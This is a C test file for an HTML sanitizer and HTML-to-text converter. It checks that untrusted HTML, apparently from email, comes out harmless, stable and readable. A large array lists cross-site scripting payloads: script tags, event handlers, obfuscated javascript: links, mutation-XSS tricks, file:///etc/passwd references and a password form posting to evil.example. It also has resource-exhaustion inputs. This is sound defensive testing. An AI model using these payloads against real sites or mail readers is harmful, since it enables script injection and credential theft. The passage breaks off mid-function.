/*-------------------------------------------------------------------------
 *
 * html_test.c
 *	  HTML that others wrote: that what is made of it cannot hurt, stays as it
 *	  is when given back, and can still be read; as HTML and as text.
 *
 *-------------------------------------------------------------------------
 */
#include "core/core.h"

#include <sys/resource.h>
#include <time.h>

#include "core/html.h"
#include "html_judge.h"
#include "tap.h"

#define MEGABYTE (1024 * 1024)

static StringInfoData clean;
static StringInfoData again;
static HtmlInfo info;

static const char *
safe(const char *html)
{
	resetStringInfo(&clean);
	if (!html_sanitize(html, strlen(html), &clean, &info))
		return html_status_name(info.status);
	return clean.data;
}

static const char *
read_text(const char *html)
{
	static StringInfoData out;

	if (out.data == NULL)
		initStringInfo(&out);
	resetStringInfo(&out);
	html_to_text(html, strlen(html), &out);
	return out.data;
}

/* What has run, or fetched, or hidden, in some reader of HTML at some time. */
static const char *const attacks[] = {
	/* plain */
	"<script>alert(1)</script>",
	"<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<script/x>alert(1)</script\n>",
	"<script>alert(1)",
	"<<script>alert(1)//<</script>",
	"<script><!--<script></script>--></script><img src=x onerror=alert(1)>",
	"<img src=x onerror=alert(1)>",
	"<img/src=x/onerror=alert(1)>",
	"<img src=\"x\"onerror=\"alert(1)\">",
	"<img src=`x`onerror=alert(1)>",
	"<img \"\"\"><script>alert(1)</script>\">",
	"<img src='1' onerror\n=\n'alert(1)'>",
	"<IMG onmouseover=\"alert('x')\">",
	"<img src=x:x onerror\x0b=alert(1)>",
	"<img src=javascript:alert(1)>",
	"<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
	"<img src=cid:a\"onerror=alert(1)>",
	"<img src=\"cid:x&quot; onerror=&quot;alert(1)\">",
	"<img alt=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\" src=cid:a>",
	"<img alt='`onerror=alert(1)' src=cid:a>",
	"<img srcset=\"http://t.example/1 1x, javascript:alert(1) 2x\">",
	"<picture><source srcset=http://t.example/a><img src=http://t.example/b></picture>",
	"<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
	"<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
	"<img src=\"data:image/png,<svg onload=alert(1)>\">",
	"<img src=\"data:image/png;base64,AAAA\" onload=alert(1)>",
	"<img src=\"data:image/png;charset=x;base64,AAAA\">",
	"<img src=file:///etc/passwd><img src=\\\\evil.example\\share\\x.png>",
	"<img src=http://t.example/p.gif?id=1 width=1 height=1>",
	"<img data-remote-src=\"javascript:alert(1)\">",
	"<img data-remote-src='http://a.example/\" onerror=\"alert(1)'>",
	/* addresses of links */
	"<a href=javascript:alert(1)>x</a>",
	"<a href=\"JaVaScRiPt:alert(1)\">x</a>",
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"java&#13;&#10;script:alert(1)\">x</a>",
	"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">x</a>",
	"<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)\">x</a>",
	"<a href=\"&#0000106avascript:alert(1)\">x</a>",
	"<a href=\" &#14;  javascript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	"<a href=\"java&Tab;script&colon;alert&lpar;1&rpar;\">x</a>",
	"<a href=\"javascript&#58;alert(1)\">x</a>",
	"<a href=\"\xe2\x80\x8bjavascript:alert(1)\">x</a>",
	"<a href=\"\xc2\xa0javascript:alert(1)\">x</a>",
	"<a href=\"vbscript:msgbox(1)\">x</a>",
	"<a href=\"livescript:x\">x</a><a href=\"mocha:x\">y</a>",
	"<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
	"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
	"<a href=\"blob:http://x.example/1\">x</a><a href=\"filesystem:http://x/\">y</a>",
	"<a href=\"view-source:http://x.example\">x</a><a href=\"about:blank\">y</a>",
	"<a href=\"ms-msdt:/id PCWDiagnostic\">x</a><a href=\"search-ms:query=x\">y</a>",
	"<a href=\"//evil.example\">x</a><a href=\"/rpc/pay\">y</a><a href=\"?x\">z</a>",
	"<a href=\"http:javascript:alert(1)\">x</a>",
	"<a href=\"http://\">x</a><a href=\"https:/x\">y</a>",
	"<a href=\"http://a.example/&quot;onclick=&quot;alert(1)\">x</a>",
	"<a href='http://a.example/\"><script>alert(1)</script>'>x</a>",
	"<a href=http://a.example target=_self rel=opener onclick=alert(1)>x</a>",
	"<a href=http://a.example ping=http://t.example download=x.exe>x</a>",
	"<a href=http://a.example href=javascript:alert(1)>x</a>",
	"<a xlink:href=javascript:alert(1)>x</a>",
	"<a href=\"mailto:a@b.example?bcc=%0Ac@d.example\" style=x:expression(1)>x</a>",
	"<a href=\"tel:<script>\">x</a>",
	"<a id=__proto__ name=x class=y href=#x>x</a>",
	/* styles */
	"<p style=\"background:url(javascript:alert(1))\">x</p>",
	"<p style=\"x:expression(alert(1))\">x</p>",
	"<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</p>",
	"<p style=\"behavior:url(x.htc);-moz-binding:url(x.xml#a)\">x</p>",
	"<style>@import 'http://t.example/x.css';</style>x",
	"<style>body{background:url(http://t.example)}</style><p>x",
	"<style><img src=\"</style><img src=x onerror=alert(1)//\">",
	"<link rel=stylesheet href=http://t.example/x.css>",
	"<font color=\"expression(alert(1))\" face=\"a&quot;onclick=alert(1)\" size=\"1;2\">x</font>",
	"<table background=http://t.example/x.png><td background=javascript:alert(1)>x",
	"<body background=http://t.example/x.png onload=alert(1)>x",
	"<td bgcolor=\"red;background:url(x)\">x",
	/* documents in the document, and what sends or moves */
	"<iframe src=javascript:alert(1)></iframe>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
	"<object data=javascript:alert(1)><param name=x></object>",
	"<object><embed src=http://evil.example/x.swf></object>",
	"<embed src=javascript:alert(1)>",
	"<applet code=X archive=http://evil.example/x.jar></applet>",
	"<frameset><frame src=javascript:alert(1)></frameset>",
	"<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
	"<meta http-equiv=Set-Cookie content=a=b><meta charset=utf-7>+ADw-script+AD4-",
	"<base href=\"javascript:alert(1)//\"><a href=x>x</a>",
	"<base href=http://evil.example/><img src=x.png>",
	"<form action=http://evil.example><input name=password><button>Go</button></form>",
	"<form><button formaction=javascript:alert(1)>x</form>",
	"<isindex action=javascript:alert(1) type=image>",
	"<input type=image src=x onerror=alert(1)><input autofocus onfocus=alert(1)>",
	"<select><option><script>alert(1)</script></select>",
	"<textarea></textarea><img src=x onerror=alert(1)></textarea>",
	"<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
	"<title><p title=\"</title><img src=x onerror=alert(1)>\">",
	"<details open ontoggle=alert(1)><summary>x</summary></details>",
	"<video src=x onerror=alert(1)><source src=x></video><audio src=http://t.example>",
	"<video poster=http://t.example/p.png></video>",
	"<marquee onstart=alert(1)>x</marquee>",
	"<dialog open onclose=alert(1)>x</dialog>",
	"<portal src=https://evil.example></portal><slot onslotchange=alert(1)>",
	"<bgsound src=javascript:alert(1)><keygen autofocus onfocus=alert(1)>",
	"<map name=m><area href=javascript:alert(1)></map><img usemap=#m src=cid:a>",
	/* other languages in HTML, and the ways back */
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<svg><script href=data:,alert(1) />",
	"<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
	"<svg><animate onbegin=alert(1) attributeName=x></svg>",
	"<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"></svg>",
	"<svg><foreignObject><p><img src=x onerror=alert(1)></p></foreignObject></svg>",
	"<svg><style><img src=x onerror=alert(1)></style></svg>",
	"<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
	"<svg><title><a id=\"</title><img src=x onerror=alert(1)>\"></title></svg>",
	"<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x "
	"onerror=alert(1)&gt;\">",
	"<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
	"<math href=javascript:alert(1)>x</math>",
	"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
	"<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style>",
	"<svg><svg><b><noscript></noscript><iframe onload=alert(1)></noscript></b></svg></svg>",
	"<table><svg><td><script>alert(1)</script></td></svg></table>",
	/* comments and the like */
	"<!--><img src=x onerror=alert(1)>-->",
	"<!---><img src=x onerror=alert(1)>-->",
	"<!-- --!><img src=x onerror=alert(1)>-->",
	"<!-- <!-- --> <img src=x onerror=alert(1)> -->",
	"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
	"<!--[if mso]><v:shape onload=alert(1)></v:shape><![endif]-->",
	"<![if !mso]><script>alert(1)</script><![endif]>",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<?xml version=\"1.0\"?><?php echo '<script>alert(1)</script>' ?>",
	"<?xml-stylesheet href=\"javascript:alert(1)\"?>",
	"<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
	"<!DOCTYPE x SYSTEM \"http://t.example/x.dtd\"><p>x",
	"<!ENTITY % x SYSTEM \"file:///etc/passwd\">%x;",
	"<!attlist img onerror cdata 'alert(1)'><img>",
	"</ <img src=x onerror=alert(1)>>",
	"</p <script>alert(1)</script>",
	"<%<img src=x onerror=alert(1)>%>",
	/* elements whose content some read as text */
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
	"<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
	"<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
	"<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
	"<plaintext><img src=x onerror=alert(1)>",
	"<template><script>alert(1)</script></template>",
	"<template><s><template><s><img src=x onerror=alert(1)>@</s>@</template></s></template>",
	"<pre><!--</pre><img src=x onerror=alert(1)>-->",
	/* broken */
	"<",
	"<a",
	"<a href",
	"<a href=",
	"<a href=\"http://a.example",
	"</",
	"<!",
	"<!-",
	"<?",
	"&",
	"&#",
	"&#x",
	"&#;",
	"&#x110000;",
	"&#xD800;",
	"&#0;",
	"&#128;&#xFFFE;",
	"<a href='http://a.example'><a href='http://b.example'>x</a>y</a>z",
	"<b><p><i></b></p></i><table><b><tr><td></b></table>x",
	"<table><tr><td><table><tr><td></table></td></table></table>",
	"<table>text<p>p<tr>more<td>cell</table>",
	"<table><caption><table><tr><td><caption>x",
	"<td>cell<tr>row<tbody>body</table>",
	"<p><div><p><table><p><td><p></table>",
	"<ul><li><ul><ol><li></ul></ol><dd><dt><dl>",
	"<select><p></select><table><select><tr><td>",
	"<a><table><a><td><a></a></table></a>",
	"<h1><h2><p></h1></h2>x",
	"<center><address><ul><pre><table><li><h1>x",
	"<frameset><body><head><html><p>x",
	"<p/><div/><b/>x<br/></br></p>",
	"<p =\"x\" \"='y' onclick=alert(1) x=>z",
	"<p title=\"&#8238;&#0;&#11;\t\n\">x",
	"<p dir=\"&quot;ltr\" lang=\"en onclick=x\">y",
	"<img width=\"1 onerror=alert(1)\" height=1e9 src=cid:a>",
	"<ol start=999999999999 type=\"A onclick\"><li value=-1>x",
	"<time datetime=\"2026-01-01&quot; onclick=&quot;x\">x</time>",
	"\xef\xbb\xbf<script>alert(1)</script>",
	"\xff\xfe<\xff"
	"script>alert(1)</script>",
	"<\xc0\xbcscript>\xc0\xbc/script>",
	"\xe0\x80\xbcscript\xe0\x80\xbe",
	"<p title=\"\xc3\">\xc3</p><p \xe2\x82>x\xf0\x9f",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"\x1b$B<script>alert(1)</script>\x1b(B",
	"<p>\xed\xa0\x80\xed\xb0\x80\xf4\x90\x80\x80</p>",
	"<x-ar-inbox-root></x-ar-inbox-root>a</x-ar-inbox-root><p>b",
	"<custom-element onclick=alert(1)><script>x</script>y</custom-element>",
	"<o:p><v:imagedata src=http://t.example/x.png></v:imagedata>x</o:p>",
};

/* judged tells what is wrong with what was made of "html". */
static const char *
judged(const char *html, size_t len)
{
	const char *wrong;

	resetStringInfo(&clean);
	resetStringInfo(&again);
	if (!html_sanitize(html, len, &clean, &info))
		return NULL;
	wrong = judge_html(clean.data, clean.len);
	if (wrong != NULL)
		return wrong;
	if (!html_sanitize(clean.data, clean.len, &again, &info))
		return "it is refused when given back";
	if (clean.len != again.len || memcmp(clean.data, again.data, clean.len) != 0)
		return "it changes when given back";
	return NULL;
}

/* The source in one line, as a TAP line has to be. */
static const char *
printable(const char *html)
{
	static char line[100];
	size_t at = 0;

	for (; html[at] != '\0' && at < sizeof(line) - 1; at++)
		line[at] = html[at] > ' ' && html[at] < 0x7F && html[at] != '#' ? html[at] : '.';
	line[at] = '\0';
	return line;
}

static void
test_attacks(void)
{
	static const char *const frames[] = {"%s",
										 "<p>%s",
										 "<table><tr><td>%s</td></tr></table>",
										 "<div title=\"%s\">",
										 "<!-- %s -->",
										 "<b><a href=\"%s\">"};

	for (int i = 0; i < lengthof(attacks); i++)
	{
		const char *wrong = NULL;
		char source[1000];

		for (int frame = 0; frame < lengthof(frames) && wrong == NULL; frame++)
		{
			const char *mark = strstr(frames[frame], "%s");

			snprintf(source, sizeof(source), "%.*s%s%s", (int) (mark - frames[frame]),
					 frames[frame], attacks[i], mark + 2);
			wrong = judged(source, strlen(source));
		}
		if (!ok(wrong == NULL, "attack %d: %s", i + 1, printable(attacks[i])))
			printf("# %s\n# from: %s\n# made: %s\n#  and: %s\n", wrong, source, clean.data,
				   again.data);
	}
	is(judged("<p>a\0<scr\0ipt>b</script>", 24) ? "wrong" : clean.data, "<p>a</p>", "NULs");
}

/* That the judge sees what it is for. */
static void
test_judge(void)
{
	static const char *const bad[] = {
		"<script>",
		"<p onclick=\"x\"></p>",
		"<p title='x'></p>",
		"<p title=\"<\"></p>",
		"<p title=\"&nbsp;\"></p>",
		"<p title=\"x\" title=\"y\"></p>",
		"<p",
		"<p>",
		"</p>",
		"<b><i></b></i>",
		"<!-- -->",
		"a < b",
		"a > b",
		"a & b",
		"\xff",
		"\x01",
		"<a href=\"javascript:x\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a>",
		"<a href=\"http://x\">x</a>",
		"<img src=\"http://x\">",
		"<img src=\"data:image/svg+xml;base64,AA\">",
		"<p><div></div></p>",
		"<b><p></p></b>",
		"<table><td></td></table>",
		"<table><b>x</b></table>",
		"<P></P>"};

	for (int i = 0; i < lengthof(bad); i++)
		ok(judge_html(bad[i], strlen(bad[i])) != NULL, "the judge does not pass: %s",
		   printable(bad[i]));
}

static void
test_html(void)
{
	is(safe(""), "", "nothing");
	is(safe("a < b & c > d \"e\""), "a &lt; b &amp; c &gt; d \"e\"", "text");
	is(safe("<html><head><title>T</title></head><body bgcolor=red><p>x</p></body></html>"),
	   "<p>x</p>", "a document becomes a fragment");
	is(safe("<p>one<p>two"), "<p>one</p><p>two</p>", "paragraphs end");
	is(safe("<P ALIGN=Center TITLE='a \"b\"' class=c>x</P>"),
	   "<p align=\"center\" title=\"a &quot;b&quot;\">x</p>", "attributes");
	is(safe("<b><x><p>x</p><p>y</p>z</x></b>"), "<p><b>x</b></p><p><b>y</b></p><b>z</b>",
	   "bold around paragraphs");
	is(safe("<p>a<x><div>b</div>c</x>d</p>"), "<p>a</p><div>b</div><p>cd</p>",
	   "a block in a paragraph");
	is(safe("<section><article>x</article></section>"), "<div><div>x</div></div>",
	   "sections are blocks still");
	is(safe("<strike>x</strike> <s>y</s>"), "<s>x</s> <s>y</s>", "strike");
	is(safe("<b></b><i> </i><span></span>x"), " x", "empty inline elements go");
	is(safe("<table><form><tr><td>a<td>b</form><tr><th>c</table>"),
	   "<table><tr><td>a</td><td>b</td></tr><tr><th>c</th></tr></table>", "a form in a table");
	is(safe("<table> x <td>y</table>"), "<table><tr><td> x </td><td>y</td></tr></table>",
	   "text between cells");
	is(safe("<td>x</td>"), "<div>x</div>", "a cell without a table");
	is(safe("<tr>x</tr>"), "x", "a row without a table");
	is(safe("<table width=100px cellpadding=0><colgroup><col width=50%><col></colgroup>"
			"<thead><tr><th colspan=2 scope=col>h</th></tr></thead></table>"),
	   "<table cellpadding=\"0\" width=\"100\"><colgroup><col width=\"50%\"><col></colgroup>"
	   "<thead><tr><th colspan=\"2\" scope=\"col\">h</th></tr></thead></table>",
	   "parts of a table");
	is(safe("<ol start=3 type=a><li>x<ul><li>y</ul><li value=7>z</ol>"),
	   "<ol start=\"3\" type=\"a\"><li>x<ul><li>y</li></ul></li><li value=\"7\">z</li></ol>",
	   "lists");
	is(safe("<pre>\n\n a\r\n  b</pre>"), "<pre>\n\n a\n  b</pre>", "preformatted text");
	is(safe("<blockquote type=cite cite=http://x class=gmail_quote>q</blockquote>"),
	   "<blockquote type=\"cite\">q</blockquote>", "a quotation");
	is(safe("<font face=\"'Arial', sans-serif\" color=#FF0000 size=+1>x</font>"),
	   "<font color=\"#FF0000\" face=\"Arial, sans-serif\" size=\"+1\">x</font>", "a font");
	is(safe("<div hidden id=x data-y=z>a<!-- b -->c</div>"), "<div>ac</div>", "comments");
	is(safe("&euro;&#8364;&#x20AC;&#128;&nbsp;&amp;lt;"),
	   "\xe2\x82\xac\xe2\x82\xac\xe2\x82\xac\xe2\x82\xac\xc2\xa0&amp;lt;", "entities");
	is(safe("a\r\nb\rc\x0b\x0c\x7f"), "a\nb\nc ", "controls");
	is(safe("x\xff\xc3y"), "x\xef\xbf\xbd\xef\xbf\xbdy", "bytes that are no UTF-8");
	is(safe("<o:p>&nbsp;</o:p><custom>x</custom>"), "\xc2\xa0x", "unknown elements go");
	is(safe("a<style>b</style><script>c</script><textarea>d</textarea><svg>e</svg>f"), "af",
	   "content that is no text goes");
	is(safe("<ruby>x<rp>(</rp><rt>y</rt><rp>)</rp></ruby><details open><summary>s</summary>d"
			"</details>"),
	   "<ruby>x<rp>(</rp><rt>y</rt><rp>)</rp></ruby><details open=\"\"><summary>s</summary>d"
	   "</details>",
	   "newer elements");
	is(safe(
		   "<ruby>x<rt><a href=https://a.example/><rt><a href=https://b.example/>y</a></a></ruby>"),
	   "<ruby>x<rt><a href=\"https://b.example/\" rel=\"noopener noreferrer nofollow\" "
	   "target=\"_blank\">y</a></rt></ruby>",
	   "a part of a ruby in another, once the link between them is gone");
}

#define REL "rel=\"noopener noreferrer nofollow\" target=\"_blank\""

static void
test_addresses(void)
{
	is(safe("<a href=' HTTP://A.example/x y?b=1&amp;c=\"2\" '>x</a>"),
	   "<a href=\"http://A.example/x%20y?b=1&amp;c=&quot;2&quot;\" " REL ">x</a>", "http");
	is(safe("<a href='https://a.ex\nample/'>x</a>"), "<a href=\"https://a.example/\" " REL ">x</a>",
	   "https");
	is(safe("<a href=mailto:a@b.example>x</a>"), "<a href=\"mailto:a@b.example\" " REL ">x</a>",
	   "mailto");
	is(safe("<a href='tel:+1 (555) 01'>x</a>"), "<a href=\"tel:+1%20(555)%2001\" " REL ">x</a>",
	   "tel");
	is(safe("<a href=javascript:x>x</a><a name=y>y</a><a href=/z>z</a>"), "xyz", "others");
	is_int(info.links, 0, "which are not counted");
	is(safe("<img src='cid:Image001.png@01D' alt=Logo width=10>"),
	   "<img src=\"cid:Image001.png@01D\" alt=\"Logo\" width=\"10\">", "cid");
	is(safe("<img src='data:image/JPG;base64,AA\nBB=='>"),
	   "<img src=\"data:image/jpeg;base64,AABB==\">", "data");
	is_int(info.inline_images, 1, "it is counted");
	is(safe("<img src='http://t.example/a b.gif' alt=''>"),
	   "<img data-remote-src=\"http://t.example/a%20b.gif\" alt=\"\">", "a remote image");
	is_int(info.remote_images, 1, "it is counted");
	is(safe("<img src='//t.example/x.gif'>"), "<img data-remote-src=\"https://t.example/x.gif\">",
	   "one without a scheme");
	is(safe("<img src=x.png alt=words><img src=y.png>"), "<img alt=\"words\">",
	   "no address: the words stay");
}

static void
test_text(void)
{
	is(read_text(""), "", "no text");
	is(read_text("<p>Dear Ann,</p><p>thank&nbsp;you<br>for &lt;all&gt;.</p>"),
	   "Dear Ann,\n\nthank you\nfor <all>.\n", "paragraphs and lines");
	is(read_text("<div>a</div><div><br></div><div>b</div>"), "a\n\nb\n", "an empty line");
	is(read_text("<style>x</style><title>t</title>a<script>b</script>"), "a\n", "no scripts");
	is(read_text("see <a href='https://x.example/a'>here</a>."),
	   "see here <https://x.example/a>.\n", "a link");
	is(read_text(
		   "<a href='https://www.x.example/'>X.example</a> <a href=mailto:a@b.example>a@b.example"
		   "</a> <a href=javascript:x>c</a>"),
	   "X.example a@b.example c\n", "links that say where they lead");
	is(read_text("<a href='http://evil.example/'>http://bank.example/</a>"),
	   "http://bank.example/ <http://evil.example/>\n", "and one that lies");
	is(read_text("<a href='https://x.example'><img src=cid:a alt='Pay now'></a><a "
				 "href='https://y.example'><img src=cid:b></a>"),
	   "Pay now <https://x.example> <https://y.example>\n", "images in links");
	is(read_text("<ul><li>a<li>b<ul><li>c</ul></ul><ol start=9><li>d<li>e<br>f</ol>"),
	   "* a\n* b\n  * c\n\n9. d\n10. e\n    f\n", "lists");
	is(read_text(
		   "<table><tr><th>No</th><th><p>Sum</p></th></tr><tr><td>1</td><td><p>10.00</p></td></tr>"
		   "</table>x"),
	   "No | Sum\n1 | 10.00\n\nx\n", "a table");
	is(read_text("a<blockquote><p>b</p><p>c</p><blockquote>d</blockquote></blockquote>e"),
	   "a\n\n> b\n>\n> c\n>\n> > d\n\ne\n", "quotations");
	is(read_text("<pre>\n a\n  b\n</pre><hr>c"), " a\n  b\n\n---\nc\n", "preformatted");
	is(read_text("<dl><dt>t<dd>d<br>e</dl>"), "t\n    d\n    e\n", "definitions");
	is(read_text("<p>so &ldquo;x&rdquo; <q>y</q></p>\xe2\x80\x8b\xc2\xad&zwnj;&nbsp;"),
	   "so \xe2\x80\x9cx\xe2\x80\x9d \xe2\x80\x9cy\xe2\x80\x9d\n", "characters");
	is(read_text("a\xff<b>b"),
	   "a\xef\xbf\xbd"
	   "b\n",
	   "bytes that are no UTF-8");
}

/* A number that is the same in each run. */
static uint32
next_number(uint32 *seed, uint32 below)
{
	*seed = *seed * 1664525 + 1013904223;
	return (*seed >> 8) % below;
}

/* Tags in any order: what comes out is good, and stays. */
static void
test_soup(void)
{
	static const char *const names[] = {"a href=http://a.example",
										"a",
										"abbr",
										"address",
										"article",
										"b",
										"bdi",
										"blockquote",
										"body",
										"br",
										"caption",
										"center",
										"code",
										"col",
										"colgroup",
										"custom",
										"dd",
										"del",
										"details",
										"div",
										"dl",
										"dt",
										"em",
										"figcaption",
										"figure",
										"font color=red",
										"form",
										"h1",
										"h2",
										"head",
										"hr",
										"html",
										"i",
										"img src=cid:a",
										"ins",
										"li",
										"noscript",
										"ol",
										"option",
										"p",
										"p align=left",
										"pre",
										"q",
										"ruby",
										"rt",
										"s",
										"script",
										"select",
										"span",
										"style",
										"summary",
										"sup",
										"svg",
										"table",
										"table border=1",
										"tbody",
										"td",
										"textarea",
										"tfoot",
										"th",
										"thead",
										"title",
										"tr",
										"tt",
										"u",
										"ul",
										"wbr"};
	static const char *const others[] = {"x",		   " ",	 "\n",	   "&amp;",	  "&#128;",
										 "<!-- c -->", "<",	 "&nbsp;", " y ",	  "\n\n",
										 "</",		   "<!", "\t",	   "\xc3\xa9"};
	uint32 seed = 20260131;
	int wrongs = 0;
	int unread = 0;
	StringInfoData source;

	initStringInfo(&source);
	for (int round = 0; round < 20000; round++)
	{
		int pieces = 2 + next_number(&seed, 30);
		const char *wrong;

		resetStringInfo(&source);
		for (int i = 0; i < pieces; i++)
		{
			const char *name = names[next_number(&seed, lengthof(names))];

			switch (next_number(&seed, 5))
			{
				case 0:
				case 1:
					appendStringInfo(&source, "<%s>", name);
					break;
				case 2:
					appendStringInfo(&source, "</%.*s>", (int) strcspn(name, " "), name);
					break;
				default:
					appendStringInfoString(&source, others[next_number(&seed, lengthof(others))]);
			}
		}
		wrong = judged(source.data, source.len);
		if (wrong != NULL && wrongs++ < 5)
			printf("# %s\n# from: %s\n# made: %s\n#  and: %s\n", wrong, source.data, clean.data,
				   again.data);
		if (*read_text(source.data) == '\0' && strstr(clean.data, "\xc3\xa9") != NULL &&
			unread++ < 5)
			printf("# no text from: %s\n", source.data);
	}
	is_int(wrongs, 0, "20,000 soups of tags");
	is_int(unread, 0, "which are all text, too");
	pfree(source.data);
}

static double
seconds(void)
{
	struct timespec now;

	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &now);
	return now.tv_sec + now.tv_nsec / 1e9;
}

static void
hostile(const char *name, const char *start, const char *piece, int count, HtmlStatus status)
{
	StringInfoData source;
	StringInfoData out;
	HtmlInfo found;
	double began;
	double took[2];
	struct rusage usage;

	initStringInfo(&source);
	initStringInfo(&out);
	appendStringInfoString(&source, start);
	for (int i = 0; i < count; i++)
		appendStringInfoString(&source, piece);
	began = seconds();
	html_sanitize(source.data, source.len, &out, &found);
	took[0] = seconds() - began;
	began = seconds();
	ok(html_to_text(source.data, source.len, &out), "%s: there is a text", name);
	took[1] = seconds() - began;
	ok(found.status == status, "%s: %s", name, html_status_name(found.status));
	getrusage(RUSAGE_SELF, &usage);
	if (!ok(took[0] < 1 && took[1] < 1, "%s: no second", name))
		printf("# %.3f s, %.3f s\n", took[0], took[1]);
	if (!ok(usage.ru_maxrss < 200 * 1024, "%s: no 200 MB", name))
		printf("# %ld kB\n", usage.ru_maxrss);
	pfree(source.data);
	pfree(out.data);
}

static void
test_hostile(void)
{
	hostile("a million attributes", "<p", " a", 1000000, HTML_TOO_DENSE);
	hostile("a million different ones", "<p", " a1=b c2='d'", 150000, HTML_TOO_DENSE);
	hostile("attributes after a false quotation", "<p a=\">\" ", "b=\">\" ", 300000,
			HTML_TOO_DENSE);
	hostile("attributes in a false value", "<p \"=\"> <p ", "b=\" ", 300000, HTML_TOO_DENSE);
	hostile("some attributes on many tags", "", "<p a b c d e f g h i j k l m n o p q r s t>",
			40000, HTML_DONE);
	hostile("100,000 nested tags", "", "<div>", 100000, HTML_TOO_DEEP);
	hostile("100,000 nested unknown tags", "", "<x>", 100000, HTML_TOO_DEEP);
	hostile("100,000 nested tables", "", "<table><tr><td>", 80000, HTML_TOO_DEEP);
	hostile("100,000 nested spans", "", "<span>x", 100000, HTML_TOO_DEEP);
	hostile("200,000 paragraphs", "", "<p>x", 200000, HTML_DONE);
	hostile("paragraphs in bold", "<b><x>", "<p>x", 200000, HTML_DONE);
	hostile("paragraphs in 200 elements",
			"<b><i><u><s><b><i><u><s><b><i><u><s><b><i><u><s><b><i><u><s><x>", "<p>x", 200000,
			HTML_TOO_DENSE);
	hostile("2 MB of tags", "", "<p>x", 520000, HTML_TOO_DENSE);
	hostile("2 MB of text", "", "words ", 340000, HTML_DONE);
	hostile("2 MB of ampersands", "", "&", 2 * MEGABYTE, HTML_TOO_DENSE);
	hostile("2 MB of angle brackets", "", "<", 2 * MEGABYTE, HTML_TOO_DENSE);
	hostile("2 MB of no UTF-8", "", "\xff", 2 * MEGABYTE, HTML_DONE);
	hostile("2 MB of one name", "<", "a", 2 * MEGABYTE - 1, HTML_DONE);
	hostile("2 MB of one value", "<p title=\"", "a", 2 * MEGABYTE - 100, HTML_DONE);
	hostile("comments that do not end", "", "<!--", 240000, HTML_DONE);
	hostile("200,000 end tags", "<div><div><div>", "</span></p>", 120000, HTML_DONE);
	hostile("200,000 line breaks in quotations", "<blockquote><blockquote><blockquote>", "<br>x",
			200000, HTML_DONE);
	hostile("10 MB", "", "<p>hello world</p>", 600000, HTML_TOO_LARGE);
}

static void
test_limits(void)
{
	StringInfoData source;

	initStringInfo(&source);
	appendStringInfoString(&source, "<p");
	for (int i = 0; i < HTML_MAX_ATTRIBUTES; i++)
		appendStringInfo(&source, " a%d=\"x y z\"", i);
	appendStringInfoString(&source, ">x");
	is(safe(source.data), "<p>x</p>", "as many attributes as there may be");
	source.len = strlen(source.data) - 2;
	appendStringInfoString(&source, " more=\"z\">x");
	ok(!html_sanitize(source.data, source.len, &clean, &info) && info.status == HTML_TOO_DENSE,
	   "and one more");
	source.len -= 2;
	ok(!html_sanitize(source.data, source.len, &clean, &info) && info.status == HTML_TOO_DENSE,
	   "and one more in a tag that does not end");
	source.len -= 4;
	ok(!html_sanitize(source.data, source.len, &clean, &info) && info.status == HTML_TOO_DENSE,
	   "of which the last is a name alone");
	resetStringInfo(&source);
	appendStringInfoString(&source, "<img alt=\"");
	for (int i = 0; i < 1000; i++)
		appendStringInfoString(&source, "a b=c d ");
	appendStringInfoString(&source, "\" src=\"data:image/png;base64,");
	for (int i = 0; i < 3000; i++)
		appendStringInfoString(&source, "AB/+");
	appendStringInfoString(&source, "\">");
	ok(strncmp(safe(source.data), "<img src=\"data:", 15) == 0,
	   "words and slashes in values are no attributes");
	ok(judge_html(clean.data, clean.len) == NULL, "a long text is cut");
	resetStringInfo(&source);
	for (int i = 0; i < 250; i++)
		appendStringInfoString(&source, "<div>");
	ok(strncmp(safe(source.data), "<div><div>", 10) == 0, "250 elements in each other");
	resetStringInfo(&clean);
	appendStringInfoString(&clean, "before");
	for (int i = 0; i < 10; i++)
		appendStringInfoString(&source, "<div>");
	ok(!html_sanitize(source.data, source.len, &clean, &info), "260 are refused");
